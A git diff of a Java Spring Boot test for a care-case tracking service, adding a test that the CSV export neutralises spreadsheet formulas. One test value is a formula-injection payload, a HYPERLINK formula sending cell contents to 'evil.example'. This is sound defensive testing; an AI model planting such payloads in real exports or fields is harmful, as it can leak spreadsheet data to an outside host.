@@ -1,4 +1,4 @@
-package uk.permanence.tracking;
+package uk.permanence.tracking.surgery;
 
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
@@ -9,12 +9,14 @@ import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.
 import static uk.permanence.testing.Eventually.eventually;
 
 import com.zaxxer.hikari.HikariDataSource;
+import java.io.StringReader;
 import java.sql.Connection;
 import java.time.Instant;
 import java.time.LocalDate;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.UUID;
+import org.apache.commons.csv.CSVFormat;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.beans.factory.annotation.Qualifier;
@@ -33,14 +35,15 @@ import uk.permanence.events.LegalStatus;
 import uk.permanence.testing.RealInfrastructure;
 
 /**
- * Requests cannot take the service down: with a request pool of three connections, many list calls leave none
- * behind, a full request pool answers 503 with Retry-After at once, and events are applied meanwhile.
+ * The surgery list cannot take the service down (with a request pool of three connections, many calls leave none
+ * behind, a full request pool answers 503 with Retry-After at once, and events are applied meanwhile), and its CSV
+ * cannot carry a formula into a spreadsheet.
  */
 @SpringBootTest(properties = {"tracking.sweep-interval=PT1H", "permanence.pools.requests.maximum-pool-size=3"})
 @AutoConfigureMockMvc
 @EmbeddedKafka(partitions = 2, topics = {CaseEventTopic.NAME, "permanence.alerts.v1"})
 @ContextConfiguration(initializers = RealInfrastructure.class)
-class ConnectionPoolsTest {
+class SurgeryListTest {
 
     private static final Instant RECORDED = Instant.parse("2026-02-20T10:00:00Z");
 
@@ -58,12 +61,16 @@ class ConnectionPoolsTest {
     private final CaseEventCodec codec = new CaseEventCodec();
 
     private String enterCare(String team) throws Exception {
+        return enterCare(team, "sw.pool");
+    }
+
+    private String enterCare(String team, String worker) throws Exception {
         String caseId = UUID.randomUUID().toString();
         kafka.send(CaseEventTopic.NAME, caseId, codec.write(UUID.randomUUID(), 0, new ChildEnteredCare(caseId, "825",
                 "REF-" + caseId, LocalDate.of(2024, 5, 1), LocalDate.of(2025, 1, 10), LegalStatus.C2, RECORDED,
                 "tester", null))).get();
         kafka.send(CaseEventTopic.NAME, caseId, codec.write(UUID.randomUUID(), 1, new CaseAllocated(caseId, "825",
-                LocalDate.of(2025, 1, 11), "sw.pool", team, RECORDED, "t", null))).get();
+                LocalDate.of(2025, 1, 11), worker, team, RECORDED, "t", null))).get();
         return caseId;
     }
 
@@ -114,6 +121,21 @@ class ConnectionPoolsTest {
             }
         }
         mvc.perform(get("/api/surgery").param("team", "north")).andExpect(status().isOk());
+    }
+
+    @Test
+    void freeTextThatASpreadsheetWouldRunIsWrittenAsText() throws Exception {
+        String team = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")" + UUID.randomUUID();
+        String caseId = enterCare(team, "@SUM(1+1)");
+        eventually(() -> assertThat(applied(caseId)).isTrue());
+
+        String csv = mvc.perform(get("/api/surgery").param("team", team).accept("text/csv"))
+                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
+
+        List<String> cells = CSVFormat.RFC4180.parse(new StringReader(csv)).getRecords().get(1).toList();
+        assertThat(cells.get(0)).isEqualTo(caseId);
+        assertThat(cells.get(2)).isEqualTo("'" + team);
+        assertThat(cells.get(3)).isEqualTo("'@SUM(1+1)");
     }
 
     @Test
